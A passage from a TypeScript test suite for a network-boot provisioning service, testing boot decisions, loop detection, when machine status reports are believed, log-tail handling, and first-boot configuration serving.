    const disk = document('Profile', 'disk', { boot: 'disk' });
    const w = await world([NETWORK, disk, machine('node-1', [MAC1], { profile: 'disk' })]);
    const answer = await w.powerOn(MAC1);
    expect(answer.decision).toMatchObject({ kind: 'disk', reason: { code: 'profile_disk' } });
    expect(answer.script).toContain('sanboot');
    expect(w.roster.get('node-1')!.status.bootsWithoutReady).toBe(0);
  });

  it('gives no boot file at all when the profile says ignore', async () => {
    const none = document('Profile', 'none', { boot: 'ignore' });
    const w = await world([NETWORK, none, machine('node-1', [MAC1], { profile: 'none' })]);
    expect(w.ask({ mac: MAC1 })).not.toHaveProperty('bootFile');
  });
});

describe('loops', () => {
  it('of whole boots without a ready report end in a hold', async () => {
    const w = await world(KNOWN);
    for (let n = 1; n <= BOOT_LIMIT; n++) {
      const answer = await w.powerOn(MAC1);
      expect(answer.decision.kind).toBe('script');
      await w.boot.report(answer.session!.id, { step: 'kernel' }, PEER);
    }
    const held = await w.powerOn(MAC1);
    expect(held.decision).toMatchObject({ kind: 'hold', reason: { code: 'boot_loop' } });
    expect(w.roster.get('node-1')!.status.phase).toBe('held');
    expect((await w.fetch(MAC1, held.session!.id)).decision.kind).toBe('hold');
    const again = await w.restart();
    expect((await again.powerOn(MAC1)).decision).toMatchObject({ reason: { code: 'boot_loop' } });
    await acceptMachine(again, 'node-1');
    expect(again.roster.get('node-1')!.status).toMatchObject({ phase: 'registered', bootsWithoutReady: 0 });
    expect((await again.powerOn(MAC1)).decision.kind).toBe('script');
  });

  it('are not detected for a machine that reports ready between its boots', async () => {
    const w = await world(KNOWN);
    for (let n = 0; n < 3 * BOOT_LIMIT; n++) {
      const answer = await w.powerOn(MAC1);
      expect(answer.decision.kind).toBe('script');
      await w.boot.report(answer.session!.id, { step: 'ready' }, PEER);
    }
  });

  it('of a loader without HTTP end when it asks a second time', async () => {
    const w = await world(KNOWN);
    w.exchange({ mac: MAC1 });
    expect(w.ask({ mac: MAC1, stage: 'ipxe-tftp' })).toMatchObject({
      decision: { kind: 'ignore', reason: { code: 'loader_loop' } },
    });
  });

  it('are not detected when an iPXE in ROM without HTTP first sends DISCOVER and then REQUEST', async () => {
    const w = await world(KNOWN);
    const offer = w.ask({ mac: MAC1, stage: 'ipxe-tftp' }, 'offer');
    expect(offer).toMatchObject({ bootFile: 'tftp://10.77.0.1/ipxe.pxe', decision: { kind: 'loader' } });
    w.clock.advance(duration('3s'));
    expect(w.ask({ mac: MAC1, stage: 'ipxe-tftp' }, 'ack').bootFile).toBe(offer.bootFile);
    w.clock.advance(duration('2s'));
    expect(w.ask({ mac: MAC1, stage: 'ipxe-tftp' }, 'offer').decision.reason.code).toBe('loader_loop');
    // Its next start is another boot.
    w.clock.advance(duration('2m'));
    expect(w.ask({ mac: MAC1, stage: 'ipxe-tftp' }, 'offer').decision.kind).toBe('loader');
  });

  it('are impossible with a loader from a document: an iPXE gets it once per session, then its script', async () => {
    const w = await world([
      ...KNOWN.slice(0, 3),
      machine('node-1', [MAC1], { profile: 'worker', pxe: { loader: 'snponly.efi' } }),
    ]);
    const rom = { mac: MAC1, stage: 'ipxe', archCode: 7, firmware: 'uefi' } as const;
    expect(w.ask(rom, 'offer').bootFile).toBe('tftp://10.77.0.1/snponly.efi');
    w.clock.advance(duration('4s'));
    expect(w.ask(rom, 'ack').bootFile).toBe('tftp://10.77.0.1/snponly.efi');
    w.clock.advance(duration('1s'));
    const loaded = w.ask(rom, 'offer');
    expect(loaded.decision.kind).toBe('script');
    expect(w.ask(rom, 'ack').bootFile).toBe(loaded.bootFile);
  });
});

describe('reports', () => {
  const booted = async () => {
    const w = await world([...KNOWN, machine('node-2', [MAC2], { profile: 'worker' })]);
    const { session } = await w.powerOn(MAC1);
    return { w, id: session!.id };
  };
  const disbelieved = (w: Awaited<ReturnType<typeof world>>, subject: string) =>
    w.events
      .list({ subject })
      .flatMap((event) => (event.kind === 'report.disbelieved' ? [event.reason!.code] : []));

  it('of a session that nobody opened, or that is over, are recorded and not obeyed', async () => {
    const { w, id } = await booted();
    expect(await w.boot.report('AAAAAAAAAAAAAAAAAAAAAA', { step: 'ready' }, PEER)).toMatchObject({
      believed: false,
    });
    expect(disbelieved(w, PEER)).toEqual(['session_unknown']);
    await w.boot.report(id, { step: 'ready' }, PEER);
    expect(await w.boot.report(id, { step: 'kernel' }, PEER)).toMatchObject({ believed: false });
    expect(await w.boot.report(id, { step: 'failed' }, PEER)).toMatchObject({ believed: false });
    expect(disbelieved(w, 'node-1')).toEqual(['session_over', 'session_over']);
    expect(w.roster.get('node-1')!.status.phase).toBe('ready');
  });

  it('of a boot before the present one are not obeyed', async () => {
    const { w, id } = await booted();
    await w.powerOn(MAC1);
    expect(await w.boot.report(id, { step: 'ready' }, PEER)).toMatchObject({ believed: false });
    expect(disbelieved(w, 'node-1')).toEqual(['session_superseded']);
    expect(w.roster.get('node-1')!.status).toMatchObject({ phase: 'booting', bootsWithoutReady: 2 });
  });

  it('from an address that is not the machine’s are not obeyed', async () => {
    const { w, id } = await booted();
    expect(await w.boot.report(id, { step: 'ready' }, '10.77.0.222')).toMatchObject({ believed: false });
    expect(disbelieved(w, 'node-1')).toEqual(['foreign_address']);
    expect(await w.boot.report(id, { step: 'kernel' }, '10.77.0.11')).toMatchObject({ believed: true });
    expect(await w.boot.report(id, { step: 'ready' }, `::ffff:${PEER}`)).toMatchObject({ believed: true });
  });

  it('are believed from any address where another DHCP server gives them', async () => {
    const proxied = document('Network', 'rack', { subnet: '10.77.0.0/24', dhcp: { mode: 'proxy' } });
    const w = await world([proxied, IMAGE, WORKER, machine('node-1', [MAC1], { profile: 'worker' })]);
    const { session } = await w.powerOn(MAC1);
    expect(await w.boot.report(session!.id, { step: 'ready' }, '10.77.0.222')).toMatchObject({
      believed: true,
    });
  });

  it('from the fixed address that its own configuration gives it are believed', async () => {
    const config = { network: { interfaces: [{ mac: MAC1, addresses: ['10.99.0.5/24'] }] } };
    const w = await world([...KNOWN.slice(0, 3), machine('node-1', [MAC1], { profile: 'worker', config })]);
    const { session } = await w.powerOn(MAC1);
    expect(await w.boot.report(session!.id, { step: 'ready' }, '10.99.0.5')).toMatchObject({
      believed: true,
    });
  });

  it('of an earlier step are not obeyed', async () => {
    const { w, id } = await booted();
    await w.boot.report(id, { step: 'configured' }, PEER);
    expect(await w.boot.report(id, { step: 'kernel' }, PEER)).toMatchObject({ believed: false });
    expect(disbelieved(w, 'node-1')).toEqual(['out_of_order']);
    expect(w.roster.get('node-1')!.status.phase).toBe('configured');
  });

  it('may be repeated when their answer was lost', async () => {
    const { w, id } = await booted();
    for (const step of ['kernel', 'kernel', 'configured', 'configured', 'ready', 'ready'] as const)
      expect(await w.boot.report(id, { step }, PEER), step).toMatchObject({ believed: true });
    expect(w.kinds('node-1').filter((kind) => kind === 'machine.phase')).toHaveLength(4);
  });

  it('of a failure keep the end of the log, as text', async () => {
    const { w, id } = await booted();
    const log = `${'x'.repeat(40_000)}\n\u001b[31mno space\u001b[0m left\u0007\r\nthe end\u0000`;
    await w.boot.report(id, { step: 'failed', detail: 'unit \u0000failed', logTail: log }, PEER);
    const { status } = w.roster.get('node-1')!;
    expect(status).toMatchObject({ phase: 'failed', reason: { code: 'reported', text: 'unit failed' } });
    expect(Buffer.byteLength(status.logTail!)).toBeLessThanOrEqual(16 * 1024);
    expect(status.logTail!.endsWith('x\nno space left\nthe end')).toBe(true);
  });

  it('are durable before they are answered, and survive a restart', async () => {
    const { w, id } = await booted();
    await w.boot.report(id, { step: 'configured' }, PEER);
    const again = await w.restart();
    expect(again.roster.get('node-1')!.status).toMatchObject({
      phase: 'configured',
      session: id,
      bootsWithoutReady: 1,
    });
    expect(await again.boot.report(id, { step: 'ready' }, PEER)).toMatchObject({ believed: true });
    expect(again.roster.get('node-1')!.status).toMatchObject({ phase: 'ready', bootsWithoutReady: 0 });
  });

  it('are requested again when the store could not write them', async () => {
    const { w, id } = await booted();
    const commit = w.store.commit.bind(w.store);
    w.store.commit = () => Promise.reject(new Error('disk full'));
    await expect(w.boot.report(id, { step: 'ready' }, PEER)).rejects.toThrow('disk full');
    w.store.commit = commit;
    expect(await w.boot.report(id, { step: 'ready' }, PEER)).toMatchObject({ believed: true });
    expect(JSON.parse((await w.store.get('machine/node-1'))!.value)).toMatchObject({ phase: 'ready' });
  });

  it('that do not come in time make the machine failed; late ones are still believed', async () => {
    const { w, id } = await booted();
    await w.boot.report(id, { step: 'kernel' }, PEER);
    w.clock.advance(duration('14m'));
    expect(w.roster.get('node-1')!.status.phase).toBe('starting');
    w.clock.advance(duration('2m'));
    expect(w.roster.get('node-1')!.status).toMatchObject({ phase: 'failed', reason: { code: 'timed_out' } });
    expect(await w.boot.report(id, { step: 'ready' }, PEER)).toMatchObject({ believed: true });
    expect(w.roster.get('node-1')!.status.phase).toBe('ready');
  });

  it('have the time that the configuration allows', async () => {
    const slow = document('Profile', 'worker', { image: 'debian', config: { configTimeout: '1h' } });
    const w = await world([NETWORK, IMAGE, slow, machine('node-1', [MAC1], { profile: 'worker' })]);
    await w.powerOn(MAC1);
    w.clock.advance(duration('59m'));
    expect(w.roster.get('node-1')!.status.phase).toBe('booting');
    w.clock.advance(duration('2m'));
    expect(w.roster.get('node-1')!.status.phase).toBe('failed');
  });

  it('are not believed from a machine whose document was deleted', async () => {
    const { w, id } = await booted();
    await w.catalog.delete('Machine', 'node-1');
    expect(await w.boot.report(id, { step: 'ready' }, PEER)).toMatchObject({ believed: false });
    expect(w.roster.get('node-1')!.status).toMatchObject({ phase: 'discovered' });
  });
});

describe('a first-boot configuration', () => {
  it('has a new instance id with every boot, and the same one within a boot', async () => {
    const w = await world(KNOWN);
    const meta = async () => {
      const { session } = await w.powerOn(MAC1);
      const read = () => w.boot.config(session!.id, 'meta-data', AT);
      const first = read();
      expect(read()).toEqual(first);
      return first.ok ? first.body : '';
    };
    const one = await meta();
    const two = await meta();
    expect(one).toContain('instance-id');
    expect(two).not.toBe(one);
  });

  it('is refused by a session that is over and by one that is unknown', async () => {
    const w = await world(KNOWN);
    const { session } = await w.powerOn(MAC1);
    await w.boot.report(session!.id, { step: 'ready' }, PEER);
    expect(w.boot.config(session!.id, 'user-data', AT)).toMatchObject({ status: 'gone' });
    expect(w.boot.config('nonsense', 'user-data', AT)).toMatchObject({ status: 'gone' });
  });

  it('gets 503 while it does not render, and is served when it does again', async () => {
    const w = await world(KNOWN);
    const { session } = await w.powerOn(MAC1);
    await w.apply(document('Profile', 'worker', { image: 'debian', config: { hostname: '${var.none}' } }));
    expect(w.boot.config(session!.id, 'user-data', AT)).toMatchObject({ ok: false, status: 'wait' });
    await w.apply(WORKER);
    expect(w.boot.config(session!.id, 'user-data', AT)).toMatchObject({ ok: true });
  });

  it('is served only in the format of the image', async () => {
    const w = await world(KNOWN);
    const { session } = await w.powerOn(MAC1);
    expect(w.boot.config(session!.id, 'ignition', AT)).toMatchObject({ ok: false, status: 'gone' });
  });
});
